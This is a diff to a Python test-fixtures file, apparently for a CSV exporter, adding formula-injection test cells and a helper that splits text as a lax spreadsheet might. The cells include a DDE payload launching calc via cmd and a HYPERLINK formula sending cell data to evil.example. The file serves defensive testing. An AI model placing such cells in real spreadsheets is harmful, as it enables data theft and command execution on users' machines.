@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import factory
@@ -194,3 +195,29 @@ HOSTILE_CSV_CELLS = [
     "=cmd|' /C calc'!A0",
     "-0.5",
 ]
+# Cells that hide a formula behind a separator or a line break: a spreadsheet that splits on
+# ";" (most of continental Europe) or on tabs, and honours quotes only at the start of its
+# own cells, would run the part after it. Every CSV must neutralise that part.
+HOSTILE_SEPARATED_CSV_CELLS = [
+    "x;=1+1;",
+    'x;=HYPERLINK("http://evil.example/?"&A1);',
+    "x;@SUM(A1:A9)",
+    "x;-2+3",
+    "x\t=1+1",
+    'x;"=1+1"',
+    "x\n=1+1",
+    "x;\t+1",
+]
+
+
+def cells_split_on(text: str, separator: str) -> list[str]:
+    """The cells a spreadsheet set to ``separator`` may read from the CSV ``text``, at worst.
+
+    It ends a line at every line break and splits at every ``separator``, quoted or not (such
+    a program honours a double quote only at the start of its own cell); leading blanks and
+    double quotes are dropped from each cell, as a program may strip them.
+    """
+    cells = []
+    for line in re.split(r"\r\n|\r|\n", text):
+        cells += [cell.lstrip(' "') for cell in line.split(separator)]
+    return cells
